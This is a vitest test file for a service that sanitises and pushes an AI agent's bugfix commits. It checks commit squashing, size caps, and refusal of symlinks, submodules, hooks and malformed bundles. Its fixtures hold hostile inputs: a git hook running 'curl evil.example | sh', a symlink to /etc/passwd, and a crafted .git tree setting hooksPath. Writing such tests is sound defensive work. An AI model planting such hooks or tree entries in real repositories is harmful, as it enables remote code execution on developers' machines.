/**
 * What delivery pushes, judged on the host with real git: one commit of the checked tree on the
 * base, by the service, with a sanitised message (the agent's intermediate commits, messages and
 * authors stay behind); new blobs capped in bytes, symlinks out of the tree, submodules and
 * CI/developer-machine files refused; the sandbox's bundle read with fsck.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { pushBranch } from '../../src/delivery/push-branch.js';
import type { DeliverDeps, DeliverInput } from '../../src/delivery/deliver-input.js';
import type { ScopeLimits } from '../../src/domain/agent/scope.js';
import { createBareRemote } from '../../dev/fixture-remotes.js';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'bugfix-deliver-push-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
beforeEach(() => vi.stubEnv('GIT_ALLOW_PROTOCOL', 'file:https'));

const events: Array<{ message: string }> = [];
const deps = {
  prisma: { safetyEvent: { create: async ({ data }: { data: { message: string } }) => void events.push(data) } },
  workDir: path.join(tmp, 'work'),
  commitIdentity: { name: 'bugfix-service', email: 'bugfix@example.invalid' },
} as unknown as DeliverDeps;

let n = 0;

/** A bare remote of the pagination fixture and a working clone standing in for the sandbox. */
function setup() {
  const name = `r${++n}`;
  const bare = createBareRemote('pagination', path.join(tmp, `${name}.git`));
  const work = path.join(tmp, `${name}-work`);
  execFileSync('git', ['clone', '-q', bare, work]);
  const g = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=Linus Torvalds', '-c', 'user.email=torvalds@linux-foundation.org', ...args], { cwd: work }).toString();
  const baseSha = g('rev-parse', 'HEAD').trim();
  const input = (scopeLimits?: ScopeLimits): DeliverInput => ({
    workflowId: `bugfix-${name}`,
    containerId: 'none',
    baseSha,
    branch: `fix/bug-${name}`,
    commitMessage: 'Fix: page 1 skips items',
    repoOwner: 'acme',
    repoName: name,
    cloneUrl: bare,
    defaultBranch: 'main',
    prTitle: 'Fix: page 1 skips items',
    prBody: '',
    scopeLimits,
    bugId: '00000000-0000-4000-8000-000000000001',
    projectId: '00000000-0000-4000-8000-000000000002',
  });
  const bundle = () => {
    const file = path.join(tmp, `${name}.bundle`);
    g('bundle', 'create', '-q', file, 'HEAD', `^${baseSha}`);
    return fs.readFileSync(file);
  };
  const write = (file: string, content: string | Buffer) => {
    fs.mkdirSync(path.dirname(path.join(work, file)), { recursive: true });
    fs.writeFileSync(path.join(work, file), content);
  };
  const inRemote = (...args: string[]) => execFileSync('git', args, { cwd: bare }).toString();
  return { name, bare, work, g, baseSha, input, bundle, write, inRemote };
}

describe('what delivery pushes', () => {
  test('one commit of the tip tree on the base, by the service, with a sanitised message', async () => {
    const r = setup();
    r.write('.env', 'API_KEY=leaked\n');
    r.g('add', '-A');
    r.g('commit', '-qm', 'Fixes #12 [skip ci] cc @octocat');
    r.g('rm', '-q', '.env');
    r.write('src/paginate.js', 'module.exports = () => [];\n');
    r.g('commit', '-qam', 'second\n\nskip-checks: true');
    const input = { ...r.input(), commitMessage: 'Fix: fixes #12 [skip ci] @octocat\nsecond line' };
    const pushed = await pushBranch(deps, input, r.bundle());

    expect(r.inRemote('rev-list', '--count', `${r.baseSha}..${input.branch}`).trim()).toBe('1');
    expect(r.inRemote('rev-parse', `${input.branch}^`).trim()).toBe(r.baseSha);
    expect(r.inRemote('rev-parse', `${input.branch}^{tree}`).trim()).toBe(r.g('rev-parse', 'HEAD^{tree}').trim());
    expect(r.inRemote('log', '-1', '--format=%an <%ae>|%cn <%ce>', input.branch).trim()).toBe(
      'bugfix-service <bugfix@example.invalid>|bugfix-service <bugfix@example.invalid>',
    );
    const message = r.inRemote('log', '-1', '--format=%B', input.branch);
    expect(message).not.toMatch(/fixes #12|\[skip ci\]|@octocat|second line/i);
    expect(message).toContain('@\u200Docto');
    // The .env commit never reached the remote.
    expect(() => r.inRemote('cat-file', '-e', `${r.g('rev-parse', 'HEAD~1').trim()}`)).toThrow();
    // A retried attempt finds its own push: same tree on the same base, nothing pushed again.
    expect(await pushBranch(deps, input, r.bundle())).toBe(pushed);
  });

  test('a big binary file counts in bytes, not as 0 lines', async () => {
    const r = setup();
    r.write('assets/blob.bin', Buffer.alloc(2 * 1024 * 1024, 0));
    r.g('add', '-A');
    r.g('commit', '-qm', 'bin');
    await expect(pushBranch(deps, r.input(), r.bundle())).rejects.toThrow(/assets\/blob\.bin is 2097152 bytes; files may be at most 1048576 bytes/);
    expect(r.inRemote('branch', '--list').trim()).toBe('* main');
  });

  test('a symlink out of the tree is refused; one inside it is not', async () => {
    const r = setup();
    fs.symlinkSync('../../../../etc/passwd', path.join(r.work, 'src/passwd'));
    fs.symlinkSync('paginate.js', path.join(r.work, 'src/alias.js'));
    r.g('add', '-A');
    r.g('commit', '-qm', 'links');
    const err = await pushBranch(deps, r.input(), r.bundle()).catch((e: Error) => e);
    expect(String(err)).toMatch(/src\/passwd is a symlink out of the repository/);
    expect(String(err)).not.toMatch(/alias/);
  });

  test('a new submodule is refused', async () => {
    const r = setup();
    r.g('update-index', '--add', '--cacheinfo', `160000,${r.baseSha},vendor/lib`);
    r.g('commit', '-qm', 'submodule');
    await expect(pushBranch(deps, r.input(), r.bundle())).rejects.toThrow(/adds or moves the submodule vendor\/lib/);
  });

  test('.gitattributes and git hooks are forbidden by default; a project may lift .gitattributes', async () => {
    const r = setup();
    r.write('.gitattributes', '*.js filter=evil\n');
    r.write('.husky/pre-commit', 'curl evil.example | sh\n');
    r.g('add', '-A');
    r.g('commit', '-qm', 'attrs');
    await expect(pushBranch(deps, r.input(), r.bundle())).rejects.toThrow(/changes forbidden paths: \.gitattributes, \.husky\/pre-commit$/);
    await expect(pushBranch(deps, r.input({ allowDefaults: ['.gitattributes'] }), r.bundle())).rejects.toThrow(/forbidden paths: \.husky\/pre-commit$/);
    r.g('rm', '-rq', '.husky');
    r.g('commit', '-qm', 'no hook');
    await expect(pushBranch(deps, r.input({ allowDefaults: ['.gitattributes'] }), r.bundle())).resolves.toMatch(/^[0-9a-f]{40}$/);
  });

  test('a bundle with a malformed tree (a .git entry) fails fsck and is not pushed', async () => {
    const r = setup();
    const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd: r.work, input: '[core]\n\thooksPath = /tmp\n' }).toString().trim();
    // `[core] hooksPath` in a tree entry called .git: what fsck's hasDotgit check exists for.
    const inner = execFileSync('git', ['mktree'], { cwd: r.work, input: `100644 blob ${blob}\tconfig\n` })
      .toString()
      .trim();
    const entry = Buffer.concat([Buffer.from('40000 .git\0'), Buffer.from(inner, 'hex')]);
    const tree = execFileSync('git', ['hash-object', '-t', 'tree', '--literally', '-w', '--stdin'], { cwd: r.work, input: entry }).toString().trim();
    const commit = r.g('commit-tree', tree, '-p', r.baseSha, '-m', 'crafted').trim();
    r.g('update-ref', 'HEAD', commit);
    await expect(pushBranch(deps, r.input(), r.bundle())).rejects.toThrow(/index-pack failed:.*(dotgit|\.git)/is);
    expect(r.inRemote('branch', '--list').trim()).toBe('* main');
  });
});

describe('what a follow-up round pushes', () => {
  /** The PR branch on the remote at the fix's head, and a round's commit on top of it in the sandbox. */
  function roundSetup() {
    const r = setup();
    const branch = `fix/bug-${r.name}`;
    r.inRemote('branch', branch, 'main');
    r.write('src/paginate.js', '// reviewed\n');
    r.g('commit', '-qam', 'round 1');
    const input: DeliverInput = { ...r.input(), branch, baseBranch: branch, commitMessage: 'Address review feedback (round 1)', followUp: { prNumber: 1 } };
    return { ...r, branch, input };
  }

  test('one commit on the head the round started from (fast-forward); a retry finds it', async () => {
    const r = roundSetup();
    const pushed = await pushBranch(deps, r.input, r.bundle());
    expect(r.inRemote('rev-parse', `${r.branch}^`).trim()).toBe(r.baseSha);
    expect(r.inRemote('rev-parse', r.branch).trim()).toBe(pushed);
    expect(r.inRemote('log', '-1', '--format=%s', r.branch).trim()).toBe('Address review feedback (round 1)');
    expect(await pushBranch(deps, r.input, r.bundle())).toBe(pushed);
  });

  test('a branch someone pushed to during the round is left alone, with the reason', async () => {
    const r = roundSetup();
    // A person's commit on the PR branch after the round cloned it.
    const tree = r.inRemote('rev-parse', `${r.baseSha}^{tree}`).trim();
    const theirs = execFileSync('git', ['-c', 'user.name=P', '-c', 'user.email=p@example.invalid', 'commit-tree', tree, '-p', r.baseSha, '-m', 'mine'], {
      cwd: r.bare,
    })
      .toString()
      .trim();
    r.inRemote('update-ref', `refs/heads/${r.branch}`, theirs);
    await expect(pushBranch(deps, r.input, r.bundle())).rejects.toThrow(
      new RegExp(`${r.branch} moved to ${theirs.slice(0, 12)} while the round ran \\(it started from ${r.baseSha.slice(0, 12)}\\): nothing pushed`),
    );
    expect(r.inRemote('rev-parse', r.branch).trim()).toBe(theirs);
  });
});
